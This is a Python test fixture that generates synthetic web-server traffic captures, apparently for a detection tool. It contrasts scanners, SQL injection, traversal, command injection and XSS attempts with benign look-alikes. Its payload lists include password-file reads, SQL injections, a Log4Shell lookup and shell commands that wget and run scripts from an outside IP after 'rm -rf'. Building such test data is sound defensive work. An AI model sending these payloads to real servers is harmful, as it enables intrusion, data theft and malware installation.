"""A web server is searched for holes; and others who ask much, in vain, or with strange words."""

from collections.abc import Iterator
from urllib.parse import quote, quote_plus

from oddwire.testing.capture import Timed
from oddwire.testing.day import Scene
from oddwire.testing.names import public
from oddwire.testing.web_pages import exchange

SERVER, ADMIN, WATCHER = "192.168.1.80", "192.168.1.21", "192.168.1.13"
OFFICE = [f"192.168.1.{last}" for last in (22, 23)]
EVIL = "45.155.205.99"
WORDS = [
    *("admin", "backup", "old", "test", "dev", "phpmyadmin", "config", "upload"),
    *("files", "include", "cgi-bin", "shell", "db", "sql", "private", "tmp"),
]
ENDS = ("", "/", ".php", ".bak", ".zip", ".old", ".txt", ".sql", ".inc", ".tar.gz")
INJECTIONS = (
    "{n}'",
    '{n}")',
    "{n} AND {a}={a}",
    "{n} AND {a}={b}",
    "{n}' AND '{a}'='{a}",
    "{n} ORDER BY {c}-- -",
    "-{a} UNION ALL SELECT {nulls}-- -",
    "-{a} UNION ALL SELECT CONCAT(0x7171,{a},0x7176),{nulls}#",
    "{n} AND SLEEP(5)",
    "{n}' AND (SELECT {a} FROM (SELECT(SLEEP(5)))abc)-- x",
    "{n};WAITFOR DELAY '0:0:5'--",
    "(SELECT CHR(113)||CHR({c}) FROM INFORMATION_SCHEMA.CHARACTER_SETS)",
)
TRAVERSALS = (
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "/index.php?page=../../../../../../etc/passwd%00",
    "/download?file=....//....//....//etc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/ping.php?host=127.0.0.1;cat+/etc/passwd",
    "/ping.php?host=127.0.0.1%7Cid",
    "/ping.php?host=$(wget+http://45.155.205.99/x.sh)",
    "/search?q=${jndi:ldap://45.155.205.99:1389/a}",
    "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&vars[0]=system",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://45.155.205.99/m.arm7;sh+m.arm7",
)
SCRIPTS = (
    "<script>alert({n})</script>",
    '"><script>alert({n})</script>',
    "<img src=x onerror=alert({n})>",
    "<svg/onload=confirm({n})>",
    "javascript:alert({n})",
    "'-alert({n})-'",
    '<body onload="prompt({n})">',
    "<iframe src=javascript:alert({n})></iframe>",
)
SENTENCES = (
    "how to select a union representative",
    "union select committee meeting",
    "drop table lamp",
    "table and chairs where price is low",
    "movie script from hollywood",
    "java script course",
    "1 or 2 bedrooms",
    "o'neill boots",
    'the "old" house',
    "update from the board",
    "insert into frame; order by post",
    "sleep (well) at night",
    "etc passwd book",
    "rock & roll -- live",
    "100% cotton <xl>",
)


def captures() -> Iterator[tuple[str, list[Timed]]]:
    """Yield each capture."""
    yield "paths-guessed", _paths()
    yield "paths-guessed-slowly", _slow_paths()
    yield "injection", _injection()
    yield "injection-alone", _injection(alone=True)
    yield "traversal-and-commands", _traversal()
    yield "scripts", _scripts()
    yield "search-engine", _crawler()
    yield "link-checker", _links()
    yield "waiting-for-a-job", _job()
    yield "editor-at-work", _editor()
    yield "search-words", _search()
    yield "many-miss-an-icon", _icons()


def _site(seed: int, seconds: float, every: float = 12) -> Scene:
    """Visitors read pages of the server; two desks inside do something else."""
    scene = Scene(seed)
    scene.others(OFFICE, seconds, 60)
    for number in range(int(seconds / every)):
        talk = scene.talk(public(1_900 + number), SERVER, 80, 3 + number * every, rtt=0.06).open()
        for page in range(scene.dice.randrange(2, 7)):
            exchange(talk, f"/news/{page}.html", size=scene.dice.randrange(900, 9_000), pause=0.4)
        if number % 6 == 2:
            exchange(talk, "/favicon.ico", 404, size=153)
        scene.add(talk.finish(after=2))
    return scene


def _paths() -> list[Timed]:
    """A list of words is tried as paths, ten lines at once: 1,100 requests, nearly all 404, in a minute."""
    scene = _site(601, 900)
    agent = "gobuster/3.6"
    for line in range(10):
        talk = scene.talk(EVIL, SERVER, 80, 400 + line * 0.02, rtt=0.04).open()
        for number in range(110):
            word = f"{WORDS[number % 16]}{number // 16 or ''}{ENDS[line]}"
            status = 200 if number % 55 == 3 else 301 if number % 37 == 9 else 404
            exchange(talk, f"/{word}", status, size=153, agent=agent, pause=0.001)
        scene.add(talk.finish())
    return scene.done()


def _slow_paths() -> list[Timed]:
    """The same, alone and slow: a browser's name, a path each five seconds for forty minutes."""
    scene = Scene(602)
    for number in range(480):
        talk = scene.talk(EVIL, SERVER, 80, 2 + 5 * number + scene.dice.uniform(-1, 1), rtt=0.04).open()
        word = f"{WORDS[number % 16]}{number // 160 or ''}{ENDS[number // 16 % 10]}"
        status = 403 if number % 40 == 11 else 404
        scene.add(exchange(talk, f"/{word}", status, size=153).finish())
    return scene.done()


def _injection(*, alone: bool = False) -> list[Timed]:
    """One parameter of one page, four hundred values that mean something to a database."""
    scene = Scene(604) if alone else _site(603, 900)
    agent = "sqlmap/1.7.11#stable (https://sqlmap.org)"
    start = 2 if alone else 420
    for line in range(8):
        talk = scene.talk(EVIL, SERVER, 80, start + 14 * line, rtt=0.05).open()
        for number in range(50):
            dice = scene.dice
            said = INJECTIONS[(number + line) % 12].format(
                n=dice.randrange(1, 40),
                a=dice.randrange(1_000, 9_999),
                b=dice.randrange(1_000, 9_999),
                c=dice.randrange(1, 20),
                nulls=",".join(["NULL"] * (number % 9 + 1)),
            )
            status = 500 if number % 3 == 0 else 200
            path = f"/item.php?id={quote(said)}"
            took = 5.01 if "SLEEP" in said and number == 8 else 0.02
            if alone:
                exchange(talk, path, status, size=2_400, pause=0.1, took=took)
            else:
                exchange(talk, path, status, size=2_400, agent=agent, pause=0.1, took=took)
        scene.add(talk.finish())
    return scene.done()


def _traversal() -> list[Timed]:
    """Files outside of the site and commands of a shell, a hundred tries at a dozen pages."""
    scene = _site(605, 900)
    for number in range(100):
        talk = scene.talk(EVIL, SERVER, 80, 380 + 2.2 * number, rtt=0.05).open()
        path = TRAVERSALS[number % 12]
        path += f"&r={number}" if "?" in path else ""
        status = (404, 400, 403, 200)[number % 4]
        agent = "python-requests/2.31.0" if number % 2 else "curl/7.88.1"
        scene.add(exchange(talk, path, status, size=300, agent=agent).finish())
    return scene.done()


def _scripts() -> list[Timed]:
    """Scripts are put into every field of a form and into the search: 160 tries in five minutes."""
    scene = _site(606, 900)
    talk = scene.talk(EVIL, SERVER, 80, 400, rtt=0.05).open()
    for number in range(160):
        said = quote_plus(SCRIPTS[number % 8].format(n=number))
        field = ("q", "name", "comment", "ref")[number // 8 % 4]
        path = f"/search?{field}={said}" if number % 3 else f"/guestbook?id=1&{field}={said}"
        exchange(talk, path, size=3_100, pause=1.8)
    scene.add(talk.finish())
    return scene.done()


def _crawler() -> list[Timed]:
    """A search engine reads the site at its own pace; old pages are gone, some have not changed."""
    scene = _site(607, 1_500)
    agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    talk = scene.talk("66.249.66.14", SERVER, 80, 10, rtt=0.11).open()
    exchange(talk, "/robots.txt", size=210, agent=agent, kind="text/plain")
    for number in range(400):
        status = 404 if number % 11 == 5 else 304 if number % 4 == 1 else 301 if number % 17 == 3 else 200
        size = 153 if status != 200 else scene.dice.randrange(2_000, 20_000)
        path = f"/archive/{2_010 + number % 13}/{number}.html"
        exchange(talk, path, status, size=size, agent=agent, pause=scene.dice.uniform(0.5, 6))
    scene.add(talk.finish())
    return scene.done()


def _links() -> list[Timed]:
    """A desk looks for dead links on the company's own site: three hundred pages, one in nine is gone."""
    scene = _site(608, 900)
    for line in range(3):
        talk = scene.talk(ADMIN, SERVER, 80, 200 + line).open()
        for number in range(100):
            status = 404 if number % 9 == 4 else 200
            method = "HEAD" if number % 3 else "GET"
            agent = "LinkChecker/10.2 (+https://linkchecker.github.io/linkchecker/)"
            path = f"/{('news', 'shop', 'about')[line]}/{number}.html"
            exchange(
                talk,
                path,
                status,
                size=4_000 if status == 200 else 153,
                agent=agent,
                method=method,
                pause=0.3,
            )
        scene.add(talk.finish())
    return scene.done()


def _job() -> list[Timed]:
    """A program waits for results that are not there yet: 404 each second until they are; six times."""
    scene = _site(609, 900)
    talk = scene.talk(WATCHER, SERVER, 80, 30).open()
    for job in range(6):
        agent, kind = "Java-http-client/17.0.9", "application/json"
        exchange(
            talk,
            "/api/v1/jobs",
            size=40,
            agent=agent,
            method="POST",
            posted=b"kind=report",
            kind=kind,
            pause=8,
        )
        for _ in range(100):
            exchange(
                talk, f"/api/v1/jobs/{7_100 + job}/result", 404, size=31, agent=agent, kind=kind, pause=1.0
            )
        exchange(talk, f"/api/v1/jobs/{7_100 + job}/result", size=18_000, agent=agent, kind=kind, pause=1.0)
    scene.add(talk.finish())
    return scene.done()


def _editor() -> list[Timed]:
    """Somebody edits pages with WordPress: its heartbeat, previews, texts with tags and quotes in them."""
    scene = _site(610, 1_200)
    talk = scene.talk(ADMIN, SERVER, 80, 60).open()
    exchange(talk, "/wp-login.php", size=6_000)
    posted = b"log=editor&pwd=hidden&wp-submit=Log+In"
    exchange(talk, "/wp-login.php", 302, size=0, method="POST", posted=posted, pause=6)
    text = quote_plus("<p>We <b>select</b> & order; 'union' <script src=\"/map.js\"></script></p>")
    for number in range(60):
        exchange(
            talk, "/wp-admin/admin-ajax.php", size=70, method="POST", posted=b"action=heartbeat", pause=12
        )
        if number % 5 == 1:
            exchange(talk, f"/wp-admin/post.php?post={200 + number}&action=edit", size=40_000, pause=2)
            body = f"post_ID={200 + number}&content={text}".encode()
            exchange(talk, "/wp-admin/post.php", 302, size=0, method="POST", posted=body, pause=4)
        if number % 7 == 3:
            exchange(talk, f"/?p={200 + number}&preview=true", size=20_000, pause=1)
            exchange(talk, "/wp-content/uploads/2019/old.jpg", 404, size=153, pause=0.1)
    scene.add(talk.finish())
    return scene.done()


def _search() -> list[Timed]:
    """Visitors search for words that a database or a browser would understand, in ordinary sentences."""
    scene = _site(611, 1_200, every=20)
    for number in range(90):
        talk = scene.talk(public(2_400 + number % 40), SERVER, 80, 20 + 12.5 * number, rtt=0.07).open()
        said = quote_plus(SENTENCES[number % 15])
        exchange(talk, f"/search?q={said}", size=7_000)
        exchange(talk, f"/search?q={said}&page=2&sort=price", size=7_000, pause=5)
        scene.add(talk.finish(after=1))
    return scene.done()


def _icons() -> list[Timed]:
    """Two hundred visitors, each of whom asks for icons that the site does not have."""
    scene = _site(612, 900, every=60)
    for number in range(200):
        talk = scene.talk(public(2_600 + number), SERVER, 80, 10 + 4.2 * number, rtt=0.08).open()
        exchange(talk, "/", size=5_000)
        for icon in ("/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png"):
            exchange(talk, icon, 404, size=153)
        scene.add(talk.finish(after=1))
    return scene.done()
